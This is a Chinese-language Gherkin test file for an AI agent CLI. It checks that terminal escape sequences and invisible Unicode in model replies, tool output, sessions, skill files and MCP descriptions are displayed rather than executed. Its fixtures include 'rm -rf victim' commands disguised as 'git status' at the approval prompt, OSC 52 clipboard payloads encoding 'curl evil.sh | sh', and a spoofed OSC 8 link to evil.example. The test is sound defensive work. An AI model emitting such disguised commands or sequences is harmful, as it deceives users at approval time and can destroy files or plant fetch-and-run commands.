@own @security @cli
Feature: 终端也是边界：模型、工具和文件写出的文字在终端上只被显示，不被执行
  终端会执行它收到的一部分字符而不显示它们：ESC 开始光标移动、清行、OSC 52 写剪贴板、OSC 8 超链接；回车和退格
  覆盖同一行；双向文本覆盖符与零宽字符让文字倒过来或看不见。模型、工具、文件和服务器写出的文字到了终端上，这些
  字符都以可见的形式显示，与 cat -v 和 less 一样：C0 控制字符和 DEL 用脱字符记法（ESC 是 `^[`，回车是 `^M`，
  DEL 是 `^?`），其余的写成 `<U+202E>`。synapse 自己的颜色照旧。--json 的输出是数据：值不变，终端会执行的字符
  写成 \u 转义；--output-last-message 写下的文件原样保存。
  伪终端场景把 synapse 写给终端的字节交给一个真正的终端模拟器（xterm.js），断言人看到的画面和终端被要求做的事。
  场景文字里的 \u001b、\r 这样的转义是它们所指的真实字符。

  Background:
    Given CLI 工作目录中有文件 "victim" 内容为 "precious"

  Rule: 审批时看到的命令就是将要运行的命令

    Scenario Outline: 聊天里的审批：<伪装>的命令原样显示，拒绝后 victim 还在
      Given CLI 模型会调用 Bash 执行含控制字符的命令 "<命令>"
      And CLI 模型会回复 "I left it alone."
      When 在伪终端里启动 synapse "chat --base-url <model>"
      And 在终端里输入 "tidy up"，等到出现 "[y] yes once"
      Then 终端画面上 "Run this command?" 下面一行去掉缩进后应该是 "<显示>"
      When 在终端里输入 "n"，等到出现 "I left it alone."
      Then CLI 工作目录中应该有文件 "victim"

      Examples:
        | 伪装                                  | 命令                                          | 显示                                         |
        | 用回车加清除整行装成 git status       | rm -rf victim #\r\u001b[2Kgit status          | rm -rf victim #^M^[[2Kgit status             |
        | 用光标左移覆盖再清行尾装成 git status | rm -rf victim #\u001b[15Dgit status\u001b[K   | rm -rf victim #^[[15Dgit status^[[K          |
        | 用光标回到行首再清行尾装成 git status | rm -rf victim #\u001b[G\u001b[Kgit status   | rm -rf victim #^[[G^[[Kgit status            |
        | 用双向覆盖符倒排装成 git status       | rm -rf victim #\u202esutats tig               | rm -rf victim #<U+202E>sutats tig            |
        | 词里藏着零宽连接符                    | rm -rf vic\u200dtim                            | rm -rf vic<U+200D>tim                        |

    Scenario: synapse run 在终端上的审批提示也一样，选“拒绝”后 victim 还在
      Given CLI 模型会调用 Bash 执行含控制字符的命令 "rm -rf victim #\r\u001b[2Kgit status"
      And CLI 模型会回复 "I left it alone."
      When 在伪终端里运行 synapse "run --base-url <model> 'tidy up'" 到结束，出现 "Run this command?" 时按下 "下、下、回车"
      Then 终端画面上 "Run this command?" 下面一行去掉缩进后应该是 "rm -rf victim #^M^[[2Kgit status"
      And CLI 工作目录中应该有文件 "victim"

    Scenario: --on-ask defer 的等待行与活动行里，命令同样原样显示
      Given CLI 模型会调用 Bash 执行含控制字符的命令 "rm -rf victim #\r\u001b[2Kgit status"
      When CLI 运行 synapse "run --on-ask defer --base-url <model> 'tidy up'"
      Then CLI 标准错误应该包含 "$ rm -rf victim #^M^[[2Kgit status"
      And CLI 标准错误应该包含 ": rm -rf victim #^M^[[2Kgit status (ask rule"
      And CLI 的输出里不应该有终端会执行的字符

  Rule: 工具的输出

    Scenario Outline: 聊天里工具输出中的<序列>没有到达终端
      Given CLI 工作目录中有文件 "out.txt"，内容含控制字符 "<内容>"
      And CLI 模型会调用 Bash 执行 "cat out.txt"
      And CLI 模型会回复 "Done."
      When 在伪终端里启动 synapse "chat --base-url <model>"
      And 在终端里输入 "show it"，等到出现 "Done."
      Then 终端没有收到 OSC <编号> 命令
      And 终端画面上应该有 "<显示>"

      Examples:
        | 序列              | 内容                                                            | 编号 | 显示                                                  |
        | OSC 52 剪贴板写入 | \u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007copied                 | 52   | ^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^Gcopied              |
        | OSC 8 超链接      | \u001b]8;;https://evil.example/\u0007docs.python.org\u001b]8;;\u0007 | 8    | ^[]8;;https://evil.example/^Gdocs.python.org^[]8;;^G |

    Scenario: synapse run 在终端上显示的工具输出也一样
      Given CLI 工作目录中有文件 "out.txt"，内容含控制字符 "\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007copied"
      And CLI 模型会调用 Bash 执行 "cat out.txt"
      And CLI 模型会回复 "Done."
      When 在伪终端里运行 synapse "run --base-url <model> 'show it'" 到结束
      Then 终端没有收到 OSC 52 命令
      And 终端画面上应该有 "^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^Gcopied"

    Scenario: synapse exec 显示 agent 命令的输出；--json 里是原值
      Given CLI 工作目录中有文件 "out.txt"，内容含控制字符 "\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007copied"
      When CLI 运行 synapse "exec 'read out.txt'"
      Then CLI 标准输出应该包含 "^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^Gcopied"
      And CLI 的输出里不应该有终端会执行的字符
      When CLI 运行 synapse "exec --json 'read out.txt'"
      Then CLI JSON 输出的 "stdout" 应该包含含控制字符的 "\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007copied"

  Rule: 模型的回答

    Scenario: 聊天里回答中的双向覆盖符和 ESC 序列以可见形式显示，synapse 自己的颜色照旧
      Given CLI 模型会回复含控制字符的 "Your report: summary\u202egpj.exe\u202c and \u001b]52;c;ZXZpbA==\u0007 done"
      When 在伪终端里启动 synapse "chat --base-url <model>"
      And 在终端里输入 "report?"，等到出现 "done"
      Then 终端画面上应该有 "Your report: summary<U+202E>gpj.exe<U+202C> and ^[]52;c;ZXZpbA==^G done"
      And 终端没有收到 OSC 52 命令
      And 终端收到的字节里不应该有含控制字符的 "\u202e"
      And 终端上仍有 synapse 自己的颜色

    Scenario: 拆在两段流里的 ESC 序列同样以可见形式显示
      Given CLI 模型会分段流出含控制字符的回复 "before \u001b" 与 "]52;c;ZXZpbA==\u0007 after"
      When 在伪终端里启动 synapse "chat --base-url <model>"
      And 在终端里输入 "stream it"，等到出现 "after"
      Then 终端画面上应该有 "before ^[]52;c;ZXZpbA==^G after"
      And 终端没有收到 OSC 52 命令

    Scenario: synapse run 的回答（标准输出）也一样；--output-last-message 写下的文件是原文
      Given CLI 模型会分段流出含控制字符的回复 "before \u001b" 与 "]52;c;ZXZpbA==\u0007 after"
      When CLI 运行 synapse "run --no-session --base-url <model> --output-last-message last.txt 'stream it'"
      Then CLI 标准输出应该包含 "before ^[]52;c;ZXZpbA==^G after"
      And CLI 的输出里不应该有终端会执行的字符
      And CLI 工作目录中的文件 "last.txt" 应该是含控制字符的 "before \u001b]52;c;ZXZpbA==\u0007 after\n"

    Scenario: run --json 里的值不变，终端会执行的字符（C1 控制字符、双向覆盖符）写成 \u 转义
      Given CLI 模型会回复含控制字符的 "csi \u009b2K osc \u009d52;c;ZXZpbA==\u009c bidi \u202e esc \u001b[2K end"
      When CLI 运行 synapse "run --json --no-session --base-url <model> 'x'"
      Then CLI 的输出里不应该有终端会执行的字符
      And CLI JSON 输出中 "assistant_message" 事件的 "content" 应该是含控制字符的 "csi \u009b2K osc \u009d52;c;ZXZpbA==\u009c bidi \u202e esc \u001b[2K end"

  Rule: 会话、技能、MCP 服务器与错误信息

    Scenario: sessions list 与 sessions show 里的标题和消息
      Given CLI 会话目录中有一个会话，用户说含控制字符的 "fix \u001b]0;pwned\u0007 the \u001b[8mbug"，模型答 "done\u202e"，记下它的 id 为 "evil"
      When CLI 运行 synapse "sessions list"
      Then CLI 标准输出应该包含 "fix ^[]0;pwned^G the ^[[8mbug"
      And CLI 的输出里不应该有终端会执行的字符
      When CLI 运行 synapse "sessions show <evil>"
      Then CLI 标准输出应该包含 "done<U+202E>"
      And CLI 的输出里不应该有终端会执行的字符

    Scenario: 聊天里 /sessions 列出的标题
      Given CLI 会话目录中有一个会话，用户说含控制字符的 "fix \u001b]0;pwned\u0007 the \u001b[8mbug"，模型答 "done"，记下它的 id 为 "evil"
      When 在伪终端里启动 synapse "chat --base-url <model>"
      And 在终端里输入 "/sessions"
      Then 终端画面上应该有 "fix ^[]0;pwned^G the ^[[8mbug"
      And 终端没有收到 OSC 0 命令

    Scenario: 工作区里的技能：skills list 的描述与 skills show 的正文
      Given CLI 工作目录中有文件 ".agents/skills/evil/SKILL.md"，内容含控制字符:
        """
        ---
        name: evil
        description: "counts words \e]52;c;ZXZpbA==\a quietly"
        ---
        Run \u001b]0;owned\u0007 the script.
        """
      When CLI 运行 synapse "skills list"
      Then CLI 标准输出应该包含 "counts words ^[]52;c;ZXZpbA==^G quietly"
      And CLI 的输出里不应该有终端会执行的字符
      When CLI 运行 synapse "skills show evil"
      Then CLI 标准输出应该包含 "Run ^[]0;owned^G the script."
      And CLI 的输出里不应该有终端会执行的字符

    Scenario: MCP 服务器给的工具描述；工作区 MCP 配置里不合格的服务器名
      Given CLI 工作目录的 "servers.json" 中有 MCP 服务器 "odd"：fixtures/mcp-odd-server.cjs --hostile
      When CLI 运行 synapse "mcp list --mcp-config <work>/servers.json"
      Then CLI 标准输出应该包含 "Counts words ^[]52;c;ZXZpbA==^G quietly<U+202E>"
      And CLI 的输出里不应该有终端会执行的字符
      Given CLI 工作目录中有文件 "mcp_servers.json" 内容为 "{\"mcpServers\": {\"evil\u001b[2Kname\": {\"command\": \"true\"}}}"
      When CLI 运行 synapse "mcp list"
      Then CLI 标准错误应该包含 "mcpServers.evil^[[2Kname: a server name is"
      And CLI 的输出里不应该有终端会执行的字符

    Scenario: 引用了输入的错误信息
      When CLI 运行含控制字符的 synapse "sessions show 'x\u001b]52;c;ZXZpbA==\u0007'"
      Then CLI 退出码应该是 2
      And CLI 标准错误应该包含 "x^[]52;c;ZXZpbA==^G"
      And CLI 的输出里不应该有终端会执行的字符

  Rule: 可见的形式（库的 visibleText、visibleCommand 与 VisibleTextStream）

    Scenario Outline: <字符>
      When 把含控制字符的 "<文本>" 交给 visibleText 和 visibleCommand
      Then visibleText 给出含控制字符的 "<文字里>"，visibleCommand 给出含控制字符的 "<命令里>"

      Examples:
        | 字符                                     | 文本                        | 文字里                                | 命令里                                |
        | ESC、回车、退格                          | a\u001b[2K\r\u0008b         | a^[[2K^M^Hb                           | a^[[2K^M^Hb                           |
        | NUL 与 DEL                               | a\u0000\u007fb              | a^@^?b                                | a^@^?b                                |
        | C1 控制字符（CSI、OSC）                  | \u009b2K \u009d52           | <U+009B>2K <U+009D>52                 | <U+009B>2K <U+009D>52                 |
        | 双向覆盖符与隔离符                       | abc\u202etxt\u2066x\u2069   | abc<U+202E>txt<U+2066>x<U+2069>       | abc<U+202E>txt<U+2066>x<U+2069>       |
        | 零宽空格、BOM、行分隔符                  | a\u200bb\ufeffc\u2028d      | a<U+200B>b<U+FEFF>c<U+2028>d          | a<U+200B>b<U+FEFF>c<U+2028>d          |
        | 隐形的标签字符                           | hi\udb40\udc41              | hi<U+E0041>                           | hi<U+E0041>                           |
        | 换行与制表符：文字里保留，命令里制表符可见 | a\tb\nc                     | a\tb\nc                               | a^Ib\nc                               |
        | 表情序列里的零宽连接符                   | \ud83d\udc68\u200d\ud83d\udc69 | \ud83d\udc68\u200d\ud83d\udc69     | \ud83d\udc68<U+200D>\ud83d\udc69      |
        | 波斯语词里的零宽不连字                   | \u0645\u06cc\u200c\u062e    | \u0645\u06cc\u200c\u062e              | \u0645\u06cc<U+200C>\u062e            |
        | 词外的零宽连接符                         | a \u200d b                  | a <U+200D> b                          | a <U+200D> b                          |
        | 紧跟字符的变体选择符                     | \u2764\ufe0f ok             | \u2764\ufe0f ok                       | \u2764<U+FE0F> ok                     |
        | 不跟在字符后的变体选择符                 | \ufe0fok                    | <U+FE0F>ok                            | <U+FE0F>ok                            |

    Scenario: 流式：拆开的 ESC 序列照样可见，段尾的零宽连接符等下一段来决定
      When 把含控制字符的 "before \u001b"、"]52;c;ZXZpbA==\u0007 \ud83d\udc68\u200d"、"\ud83d\udc69 a\u200d"、" b" 依次交给一个 VisibleTextStream，最后结束它
      Then 各段流出的应该依次是含控制字符的 "before ^["、"]52;c;ZXZpbA==^G \ud83d\udc68"、"\u200d\ud83d\udc69 a"、"<U+200D> b"、""
